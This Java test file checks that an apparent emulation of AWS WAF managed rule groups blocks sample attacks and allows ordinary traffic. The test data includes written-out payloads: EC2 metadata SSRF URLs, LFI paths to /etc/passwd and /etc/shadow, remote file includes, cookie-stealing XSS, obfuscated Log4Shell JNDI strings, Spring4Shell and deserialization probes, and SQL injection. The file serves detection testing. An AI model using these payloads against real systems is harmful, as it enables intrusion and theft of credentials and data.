package dev.stratus.wafv2.engine;

import static dev.stratus.wafv2.engine.WafTestSupport.*;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import software.amazon.awssdk.services.wafv2.model.OverrideAction;
import software.amazon.awssdk.services.wafv2.model.PositionalConstraint;
import software.amazon.awssdk.services.wafv2.model.Rule;
import software.amazon.awssdk.services.wafv2.model.RuleActionOverride;
import software.amazon.awssdk.services.wafv2.model.Statement;
import software.amazon.awssdk.services.wafv2.model.WebACL;

/** AWS's managed rule groups as Stratus implements them (wafv2.md §13–14). */
class ManagedRuleGroupsTest {
  private static Rule managed(String name, int priority, RuleActionOverride... overrides) {
    Statement s = Statement.builder().managedRuleGroupStatement(m -> m.vendorName("AWS").name(name)
        .ruleActionOverrides(overrides)).build();
    return Rule.builder().name(name).priority(priority).statement(s).overrideAction(OverrideAction.builder().none(n -> { }).build())
        .visibilityConfig(v -> v.metricName(name).cloudWatchMetricsEnabled(true).sampledRequestsEnabled(true)).build();
  }

  private static WafResult crs(WafTestSupport.Req req) {
    return eval(acl(managed(ManagedRuleGroups.COMMON_RULE_SET, 0)), req);
  }

  @Test
  void groupsCarryAwsNamesRulesAndLabels() {
    var crs = ManagedRuleGroups.find("AWS", "AWSManagedRulesCommonRuleSet").orElseThrow();
    assertThat(crs.rules()).extracting(Rule::name).containsExactly("NoUserAgent_HEADER", "UserAgent_BadBots_HEADER",
        "SizeRestrictions_QUERYSTRING", "SizeRestrictions_Cookie_HEADER", "SizeRestrictions_BODY", "SizeRestrictions_URIPATH",
        "EC2MetaDataSSRF_BODY", "EC2MetaDataSSRF_COOKIE", "EC2MetaDataSSRF_URIPATH", "EC2MetaDataSSRF_QUERYARGUMENTS",
        "GenericLFI_QUERYARGUMENTS", "GenericLFI_URIPATH", "GenericLFI_BODY", "RestrictedExtensions_URIPATH",
        "RestrictedExtensions_QUERYARGUMENTS", "GenericRFI_QUERYARGUMENTS", "GenericRFI_BODY", "GenericRFI_URIPATH",
        "CrossSiteScripting_COOKIE", "CrossSiteScripting_QUERYARGUMENTS", "CrossSiteScripting_BODY", "CrossSiteScripting_URIPATH");
    assertThat(crs.capacity()).isEqualTo(700);
    assertThat(crs.availableLabels()).extracting(l -> l.name()).contains("awswaf:managed:aws:core-rule-set:SizeRestrictions_Body",
        "awswaf:managed:aws:core-rule-set:NoUserAgent_Header", "awswaf:managed:aws:core-rule-set:BadBots_Header");
    assertThat(ManagedRuleGroups.find("AWS", ManagedRuleGroups.KNOWN_BAD_INPUTS)).isPresent();
    assertThat(ManagedRuleGroups.find("AWS", ManagedRuleGroups.SQLI_RULE_SET)).isPresent();
    assertThat(ManagedRuleGroups.find("AWS", ManagedRuleGroups.IP_REPUTATION_LIST)).isPresent();
    assertThat(ManagedRuleGroups.find("Other", ManagedRuleGroups.SQLI_RULE_SET)).isEmpty();
  }

  @Test
  void ordinaryTrafficPassesTheCoreRuleSet() {
    assertThat(crs(get("/products/42?sort=price&page=2").header("cookie", "session=abc123; theme=dark")).action())
        .isEqualTo(WafAction.ALLOW);
    assertThat(crs(post("/api/orders", "{\"item\":\"book\",\"qty\":2,\"note\":\"Leave at the door, it's fine\"}")).action())
        .isEqualTo(WafAction.ALLOW);
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '|', textBlock = """
      UserAgent_BadBots_HEADER           | GET  | /                                         | Mozilla/5.00 (Nikto/2.1.6)  | 
      SizeRestrictions_URIPATH           | GET  | /LONGPATH                                 |                             | 
      EC2MetaDataSSRF_QUERYARGUMENTS     | GET  | /fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data |      | 
      EC2MetaDataSSRF_URIPATH            | GET  | /proxy/169.254.169.254/latest              |                             | 
      EC2MetaDataSSRF_BODY               | POST | /hook                                     |                             | target=http://169.254.169.254/latest/user-data
      GenericLFI_QUERYARGUMENTS          | GET  | /view?file=..%2F..%2F..%2Fetc%2Fpasswd    |                             | 
      GenericLFI_URIPATH                 | GET  | /static/..%2f..%2fetc/passwd              |                             | 
      GenericLFI_BODY                    | POST | /upload                                   |                             | path=../../../../etc/shadow
      RestrictedExtensions_URIPATH       | GET  | /logs/app.log                             |                             | 
      RestrictedExtensions_QUERYARGUMENTS| GET  | /download?f=config.ini                    |                             | 
      GenericRFI_QUERYARGUMENTS          | GET  | /page?include=http://203.0.113.9/shell.txt |                            | 
      GenericRFI_BODY                    | POST | /page                                     |                             | src=ftp://198.51.100.3/x.php
      GenericRFI_URIPATH                 | GET  | /go/http://192.0.2.10/evil                |                             | 
      CrossSiteScripting_QUERYARGUMENTS  | GET  | /search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E |                         | 
      CrossSiteScripting_BODY            | POST | /comment                                  |                             | text=<img src=x onerror=alert(document.cookie)>
      CrossSiteScripting_URIPATH         | GET  | /p/%3Csvg%20onload%3Dalert(1)%3E          |                             | 
      """)
  void eachRuleBlocksItsAttack(String ruleName, String method, String uri, String userAgent, String body) {
    if (uri.equals("/LONGPATH")) uri = "/" + "a".repeat(1025);
    var req = new WafTestSupport.Req().method(method).uri(uri);
    if (userAgent != null) req.noHeader("user-agent").header("user-agent", userAgent);
    if (body != null) req.body(body);
    WafResult r = crs(req);
    assertThat(r.action()).isEqualTo(WafAction.BLOCK);
    assertThat(r.ruleWithinGroup()).contains(ruleName);
    String label = ManagedRuleGroups.commonRuleSet().rules().stream().filter(x -> x.name().equals(ruleName)).findFirst()
        .orElseThrow().ruleLabels().getFirst().name();
    assertThat(r.labels()).contains("awswaf:managed:aws:core-rule-set:" + label);
  }

  @Test
  void headerAndCookieRules() {
    WafResult noUa = crs(get("/").noHeader("user-agent"));
    assertThat(noUa.ruleWithinGroup()).contains("NoUserAgent_HEADER");
    assertThat(noUa.labels()).containsExactly("awswaf:managed:aws:core-rule-set:NoUserAgent_Header");
    assertThat(crs(get("/").header("cookie", "a=" + "x".repeat(10_240))).ruleWithinGroup()).contains("SizeRestrictions_Cookie_HEADER");
    assertThat(crs(get("/").header("cookie", "a=" + "x".repeat(10_000))).action()).isEqualTo(WafAction.ALLOW);
    assertThat(crs(get("/").header("cookie", "pref=%3Cscript%3Ealert(1)%3C/script%3E")).ruleWithinGroup())
        .contains("CrossSiteScripting_COOKIE");
    assertThat(crs(get("/").header("cookie", "next=http://169.254.169.254/")).ruleWithinGroup()).contains("EC2MetaDataSSRF_COOKIE");
  }

  @Test
  void sizeThresholdsAreAwss() {
    assertThat(crs(get("/?q=" + "a".repeat(2046))).action()).isEqualTo(WafAction.ALLOW); // 2,048 bytes
    assertThat(crs(get("/?q=" + "a".repeat(2047))).ruleWithinGroup()).contains("SizeRestrictions_QUERYSTRING");
    assertThat(crs(get("/" + "a".repeat(1023))).action()).isEqualTo(WafAction.ALLOW); // 1,024 bytes
    assertThat(crs(post("/", "a".repeat(8192))).action()).isEqualTo(WafAction.ALLOW);
    assertThat(crs(post("/", "a".repeat(8193))).ruleWithinGroup()).contains("SizeRestrictions_BODY");
  }

  /** The seed's failure case (issue 10 item 6), in the engine. */
  @Test
  void tenKilobyteJsonBodyTripsSizeRestrictionsBodyUntilOverriddenToCountButXssStillBlocks() {
    String padding = "x".repeat(10 * 1024);
    String legit = "{\"document\":\"" + padding + "\"}";
    String withXss = "{\"title\":\"<script>alert(1)</script>\",\"document\":\"" + padding + "\"}";

    WebACL plain = acl(managed(ManagedRuleGroups.COMMON_RULE_SET, 0));
    WafResult blocked = eval(plain, post("/api/documents", legit).header("content-type", "application/json"));
    assertThat(blocked.action()).isEqualTo(WafAction.BLOCK);
    assertThat(blocked.terminatingRule()).isEqualTo("AWSManagedRulesCommonRuleSet");
    assertThat(blocked.ruleWithinGroup()).contains("SizeRestrictions_BODY");
    assertThat(blocked.labels()).contains("awswaf:managed:aws:core-rule-set:SizeRestrictions_Body");

    RuleActionOverride toCount = RuleActionOverride.builder().name("SizeRestrictions_BODY").actionToUse(count()).build();
    WebACL fixed = acl(managed(ManagedRuleGroups.COMMON_RULE_SET, 0, toCount));
    WafResult passed = eval(fixed, post("/api/documents", legit));
    assertThat(passed.action()).isEqualTo(WafAction.ALLOW);
    assertThat(passed.matches()).singleElement().satisfies(m -> {
      assertThat(m.ruleWithinGroup()).contains("SizeRestrictions_BODY");
      assertThat(m.action()).isEqualTo(WafAction.COUNT);
    });
    WafResult xss = eval(fixed, post("/api/documents", withXss));
    assertThat(xss.action()).isEqualTo(WafAction.BLOCK);
    assertThat(xss.ruleWithinGroup()).contains("CrossSiteScripting_BODY");

    // AWS's documented pattern: the counted label plus a rule that blocks it unless the path is the known-good one
    Statement sizeLabel = Statement.builder().labelMatchStatement(l -> l.scope("LABEL")
        .key("awswaf:managed:aws:core-rule-set:SizeRestrictions_Body")).build();
    Statement notUpload = Statement.builder().notStatement(n -> n.statement(
        byteMatch(uriPath(), "/api/documents", PositionalConstraint.STARTS_WITH))).build();
    WebACL withLabelRule = acl(managed(ManagedRuleGroups.COMMON_RULE_SET, 0, toCount),
        rule("large-bodies-only-on-documents", 1, Statement.builder().andStatement(a -> a.statements(sizeLabel, notUpload)).build(), block()));
    assertThat(eval(withLabelRule, post("/api/documents", legit)).action()).isEqualTo(WafAction.ALLOW);
    assertThat(eval(withLabelRule, post("/api/other", legit)).terminatingRule()).isEqualTo("large-bodies-only-on-documents");
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '|', textBlock = """
      Log4JRCE_HEADER                    | GET      | /                  | x-api-version | ${jndi:ldap://203.0.113.5/a}
      Log4JRCE_HEADER                    | GET      | /                  | user-agent    | ${${lower:j}ndi:${lower:l}dap://x/a}
      Log4JRCE_QUERYSTRING               | GET      | /?q=%24%7Bjndi%3Armi%3A%2F%2Fx%2Fa%7D |  | 
      Log4JRCE_URIPATH                   | GET      | /${jndi:dns://x/a}  |              | 
      JavaDeserializationRCE_HEADER      | GET      | /                  | x-data        | rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ
      JavaDeserializationRCE_QUERYSTRING | GET      | /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x | | 
      Host_localhost_HEADER              | GET      | /                  | host          | localhost:8080
      PROPFIND_METHOD                    | PROPFIND | /                  |               | 
      ExploitablePaths_URIPATH           | GET      | /WEB-INF/web.xml   |               | 
      """)
  void knownBadInputs(String ruleName, String method, String uri, String header, String value) {
    var req = new WafTestSupport.Req().method(method).uri(uri).header("host", "shop.example.com");
    if (header != null) req.noHeader(header).header(header, value);
    WafResult r = eval(acl(managed(ManagedRuleGroups.KNOWN_BAD_INPUTS, 0)), req);
    assertThat(r.action()).isEqualTo(WafAction.BLOCK);
    assertThat(r.ruleWithinGroup()).contains(ruleName);
    assertThat(r.labels()).anyMatch(l -> l.startsWith("awswaf:managed:aws:known-bad-inputs:"));
  }

  @Test
  void knownBadInputsLetsOrdinaryRequestsThrough() {
    WafResult r = eval(acl(managed(ManagedRuleGroups.KNOWN_BAD_INPUTS, 0)),
        get("/account/settings?tab=profile").header("host", "shop.example.com").header("x-request-id", "${not-a-lookup"));
    assertThat(r.action()).isEqualTo(WafAction.ALLOW);
  }

  @Test
  void sqliRuleSet() {
    WebACL a = acl(managed(ManagedRuleGroups.SQLI_RULE_SET, 0));
    assertThat(eval(a, get("/items?id=1%27%20OR%20%271%27%3D%271")).ruleWithinGroup()).contains("SQLi_QUERYARGUMENTS");
    assertThat(eval(a, post("/login", "user=admin'--&pass=x")).ruleWithinGroup()).contains("SQLi_BODY");
    assertThat(eval(a, get("/").header("cookie", "id=1 UNION SELECT password FROM users")).ruleWithinGroup()).contains("SQLi_COOKIE");
    assertThat(eval(a, get("/items?id=1%20AND%20SLEEP(5)")).ruleWithinGroup()).isPresent();
    assertThat(eval(a, get("/items?id=42&name=O%27Brien&q=rock%20and%20roll")).action()).isEqualTo(WafAction.ALLOW);
    assertThat(eval(a, get("/")).labels()).isEmpty();
  }

  @Test
  void ipReputationListMatchesNothingWithoutAFeed() {
    WafResult r = eval(acl(managed(ManagedRuleGroups.IP_REPUTATION_LIST, 0)), get("/"));
    assertThat(r.action()).isEqualTo(WafAction.ALLOW);
    assertThat(r.matches()).isEmpty();
  }

  @Test
  void aPinnedVersionCompilesToTheSameRules() {
    Statement pinned = Statement.builder().managedRuleGroupStatement(m -> m.vendorName("AWS")
        .name(ManagedRuleGroups.COMMON_RULE_SET).version("Version_1.14")).build();
    Rule r = managed(ManagedRuleGroups.COMMON_RULE_SET, 0).toBuilder().statement(pinned).build();
    assertThat(eval(acl(r), get("/").noHeader("user-agent")).ruleWithinGroup()).contains("NoUserAgent_HEADER");
  }

  @Test
  void unknownManagedGroupCompilesToAGroupThatMatchesNothing() {
    WafResult r = eval(acl(managed("AWSManagedRulesBotControlRuleSet", 0)), get("/").noHeader("user-agent"));
    assertThat(r.action()).isEqualTo(WafAction.ALLOW);
    assertThat(List.of(r.terminatingRule())).containsExactly("Default_Action");
  }
}
